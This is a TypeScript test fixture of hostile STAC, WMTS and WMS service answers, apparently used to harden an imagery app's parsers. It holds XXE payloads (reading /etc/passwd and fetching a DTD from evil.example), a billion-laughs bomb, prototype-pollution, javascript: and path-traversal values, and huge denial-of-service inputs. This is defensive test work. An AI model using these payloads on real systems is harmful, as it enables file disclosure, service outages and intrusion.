// Answers of imagery services that have been taken over, or never meant well: item searches, and
// capabilities of map services.

import { answerOf, earthSearchItem } from "../../../src/imagery/stac.fixture";
import { type HostileInput, inputsOf } from "../hostileInput";
import { ADDRESSES, EDGES, LETTERS, MARKUP, nested } from "../hostileTexts";
import { jsonWith, withFields, withValueAt } from "../spoilt";

const item = earthSearchItem("pad-1", "2019-03-02T02:00:00Z");
const search = answerOf([item]);
const text = (value: unknown) => JSON.stringify(value);
const first = (...path: readonly (string | number)[]) => ["features", 0, ...path];

type Make = (value: unknown) => string;

function named(prefix: string, values: Readonly<Record<string, unknown>>, make: Make) {
  return Object.fromEntries(
    Object.entries(values).map(([name, value]) => [`${prefix}: ${name}`, () => make(value)]),
  );
}

const STAC = inputsOf("stac", {
  ...named("in every text", { ...MARKUP, ...LETTERS }, (value) =>
    text(withFields(search, ["id", "platform", "constellation", "instruments"], value)),
  ),
  ...named("address of the picture", ADDRESSES, (value) =>
    text(withValueAt(search, first("assets"), { visual: { href: value, roles: ["visual"] } })),
  ),
  ...named("features", EDGES, (value) => text({ ...search, features: value })),
  ...named("an item", EDGES, (value) => text(withValueAt(search, first(), value))),
  ...named("geometry", EDGES, (value) => text(withValueAt(search, first("geometry"), value))),
  "next page on another host": text({
    ...search,
    features: [],
    links: [{ rel: "next", href: "https://evil.example/search" }],
  }),
  "next page is the same for ever": text({
    ...search,
    features: [],
    links: [{ rel: "next", href: "?" }],
  }),
  "next page with a prototype in its body": jsonWith(
    { ...search, features: [] },
    ["links"],
    '[{"rel":"next","href":"?","method":"POST","merge":true,"body":{"__proto__":{"hacked":1}}}]',
  ),
  "an asset that is a prototype": jsonWith(search, first("assets"), '{"__proto__":{"href":"x"}}'),
  "a cloud cover of 1e309": jsonWith(search, first("properties", "eo:cloud_cover"), "1e309"),
  "a pixel of 1e308 m": jsonWith(search, first("properties", "gsd"), "1e308"),
  "a day that does not exist": text(
    withValueAt(search, first("properties", "datetime"), "2019-02-30T00:00:00Z"),
  ),
  "corners nested 100,000 deep": () =>
    jsonWith(search, first("geometry", "coordinates"), nested(100_000)),
  "a million corners": () =>
    jsonWith(search, first("geometry", "coordinates"), `[[${"[0,0],".repeat(999_999)}[0,0]]]`),
  "corners beyond the Earth": text(
    withValueAt(search, first("geometry", "coordinates"), [
      [
        [1e9, 1e9],
        [0, 0],
        [1, 1],
      ],
    ]),
  ),
  "a million items that are null": () =>
    jsonWith(search, ["features"], `[${"null,".repeat(999_999)}null]`),
  "a hundred thousand assets": () =>
    text(
      withValueAt(
        search,
        first("assets"),
        Object.fromEntries(Array.from({ length: 100_000 }, (_, at) => [`a${at}`, { href: "x" }])),
      ),
    ),
  "a million links": () =>
    jsonWith({ ...search, features: [] }, ["links"], `[${"{},".repeat(999_999)}{}]`),
  "the same scene a thousand times": () => text(answerOf(Array.from({ length: 1000 }, () => item))),
  "an id of ten megabytes": () => text(withValueAt(search, first("id"), "a".repeat(10_000_000))),
  "an address of ten megabytes": () =>
    text(
      withValueAt(search, first("assets"), {
        visual: { href: `https://a.example/${"a".repeat(10_000_000)}.tif` },
      }),
    ),
  "more than an answer may be": () => " ".repeat(21 * 2 ** 20),
  "cut off": text(search).slice(0, 900),
  "a web page": "<html></html>",
  empty: "",
});

const WMTS_GOOD = `<Capabilities xmlns:ows="http://www.opengis.net/ows/1.1"><Contents>
<Layer><ows:Identifier>pad</ows:Identifier><Style isDefault="true"><ows:Identifier>STYLE</ows:Identifier></Style>
<Format>image/png</Format><Dimension><ows:Identifier>Time</ows:Identifier><Value>TIMES</Value></Dimension>
<TileMatrixSetLink><TileMatrixSet>web</TileMatrixSet></TileMatrixSetLink>
<ResourceURL format="image/png" resourceType="tile" template="TEMPLATE"/></Layer>
<TileMatrixSet><ows:Identifier>web</ows:Identifier><ows:SupportedCRS>urn:ogc:def:crs:EPSG::3857</ows:SupportedCRS>
<TileMatrix><ows:Identifier>0</ows:Identifier><ScaleDenominator>SCALE</ScaleDenominator><TileWidth>256</TileWidth><TileHeight>256</TileHeight></TileMatrix>
</TileMatrixSet></Contents></Capabilities>`;
const TEMPLATE =
  "https://t.test/{Style}/{Time}/{TileMatrixSet}/{TileMatrix}/{TileRow}/{TileCol}.png";
const WMS_GOOD = `<WMS_Capabilities><Capability><Layer><CRS>EPSG:3857</CRS><Layer><Name>pad</Name>
<Dimension name="time">TIMES</Dimension><Title>STYLE</Title></Layer></Layer></Capability></WMS_Capabilities>`;
const escaped = (value: unknown) =>
  String(value).replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");

function filled(
  xml: string,
  { times = "2019-03-02", style = "s", template = TEMPLATE, scale = "559082264.0287178" } = {},
) {
  const values = new Map([
    ["TIMES", times],
    ["STYLE", style],
    ["TEMPLATE", template],
    ["SCALE", scale],
  ]);
  return xml.replace(/TIMES|STYLE|TEMPLATE|SCALE/g, (name) => values.get(name) ?? "");
}

export const WMTS_PLAIN = filled(WMTS_GOOD);
export const WMS_PLAIN = filled(WMS_GOOD);

const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY a${at} "${`&a${at - 1};`.repeat(10)}">`).join("")}]>`;

/** The same tricks for every kind of capabilities. */
function xmlTricks(xml: string): Record<string, string | (() => string)> {
  const good = filled(xml);
  return {
    ...named("text", { ...MARKUP, ...LETTERS }, (value) => filled(xml, { style: escaped(value) })),
    ...named("text that is not escaped", MARKUP, (value) => filled(xml, { style: String(value) })),
    "a billion laughs": laughs + filled(xml, { style: "&a29;" }),
    "entity from a file": `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${filled(xml, { style: "&e;" })}`,
    "entity from another host": `<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x.dtd"> %e;]>${good}`,
    "document type left open": `<!DOCTYPE x [ ${"]".repeat(100)} ${good}`,
    "a million brackets in a document type": () => `<!DOCTYPE x [${"] ".repeat(1_000_000)}`,
    "style sheet instruction": `<?xml-stylesheet href="javascript:alert(1)"?>${good}`,
    "numbers of characters that do not exist": filled(xml, {
      style: "&#0;&#x110000;&#xd800;&#9999999;",
    }),
    "elements 100,000 deep": () => "<a>".repeat(100_000) + "</a>".repeat(100_000),
    "layers 99 deep": () => good.replace("<Layer>", "<Layer>".repeat(90)),
    "two million elements": () => `<a>${"<b/>".repeat(2_000_000)}</a>`,
    "a million attributes": () =>
      `<a ${Array.from({ length: 1_000_000 }, (_, at) => `a${at}="1"`).join(" ")}/>`,
    "an attribute that never ends": () => `<a b="${"x".repeat(10_000_000)}`,
    "ten megabytes of spaces in a tag": () => `<a${" ".repeat(10_000_000)}`,
    "ten megabytes of spaces after a name": () => `<a b${" ".repeat(10_000_000)}c>`,
    "ten megabytes of one name": () => `<${"a".repeat(10_000_000)}`,
    "ten megabytes of an attribute's name": () => `<a ${"b".repeat(10_000_000)}>`,
    "five million brackets": () => "<".repeat(5_000_000),
    "a million comments left open": () => "<!-- ".repeat(1_000_000),
    "a million CDATA left open": () => "<![CDATA[".repeat(1_000_000),
    "a million entities": () => `<a>${"&#x41;".repeat(1_000_000)}</a>`,
    "ten megabytes of ampersands": () => `<a>${"&".repeat(10_000_000)}</a>`,
    "two roots": good + good,
    "ends crosswise": "<a><b></a></b>",
    "prototype as names": `<__proto__ constructor="1"><constructor/>${good}</__proto__>`,
    "JSON instead": "{}",
    empty: "",
    ...Object.fromEntries(
      [10, 30, 50, 70, 90].map((share) => [
        `cut off after ${share} %`,
        good.slice(0, Math.floor((good.length * share) / 100)),
      ]),
    ),
  };
}

function small(tricks: Record<string, string | (() => string)>) {
  const entries = Object.entries(tricks);
  return Object.fromEntries(entries.filter(([, input]) => typeof input === "string"));
}

const TIMES = {
  "a thousand years of seconds": "1500-01-01T00:00:00Z/2500-01-01T00:00:00Z/PT1S",
  "ten thousand years of seconds, two thousand times": () =>
    `${"0001-01-01/9999-12-31/PT1S,".repeat(2000)}`,
  "two hundred thousand intervals": () => "2019-01-01/2019-12-31/P1D,".repeat(200_000),
  "a step of nothing": "2019-01-01/2019-12-31/PT0S",
  "a step backwards": "2019-01-01/2019-12-31/-P1D",
  "a step of 9999 years": "2019-01-01/9999-12-31/P9999Y",
  "a step of 999999999 seconds": "2019-01-01/2019-12-31/PT999999999S",
  "end before the beginning": "2019-12-31/2019-01-01/P1D",
  "open end": "2019-01-01/current/P1D",
  "a day that does not exist": "2019-02-30",
  "nothing but commas": () => ",".repeat(5_000_000),
  "nothing but slashes": () => "/".repeat(5_000_000),
  "ten megabytes of one period": () => `2019-01-01/2019-12-31/P${"1".repeat(10_000_000)}D`,
  "no times": "",
  script: escaped(MARKUP.script),
};

const inCapabilities = (xml: string) =>
  Object.fromEntries(
    Object.entries(TIMES).map(([name, times]) => [
      `times: ${name}`,
      () => filled(xml, { times: typeof times === "function" ? times() : times }),
    ]),
  );

export const SERVICES: readonly HostileInput[] = [
  ...STAC,
  ...inputsOf("times", TIMES),
  ...inputsOf("wmts", {
    ...xmlTricks(WMTS_GOOD),
    ...inCapabilities(WMTS_GOOD),
    ...named("address of the tiles", ADDRESSES, (value) =>
      filled(WMTS_GOOD, { template: `${escaped(value)}/{TileMatrix}/{TileRow}/{TileCol}` }),
    ),
    "tiles with an unknown place": filled(WMTS_GOOD, {
      template: "https://t.test/{__proto__}/{x}/{y}",
    }),
    "a host that is a place": filled(WMTS_GOOD, {
      template: "https://{Style}/{x}/{y}/{z}",
      style: "evil.example",
    }),
    "a style that leads upwards": filled(WMTS_GOOD, { style: "../../../evil" }),
    "a style that is a place": filled(WMTS_GOOD, { style: "{x}{bbox}{time}" }),
    "scale of nothing": filled(WMTS_GOOD, { scale: "0" }),
    "scale of 1e309": filled(WMTS_GOOD, { scale: "1e309" }),
  }),
  // The large ones are the same for the reader of XML, which both share.
  ...inputsOf("wms", { ...small(xmlTricks(WMS_GOOD)), ...inCapabilities(WMS_GOOD) }),
];
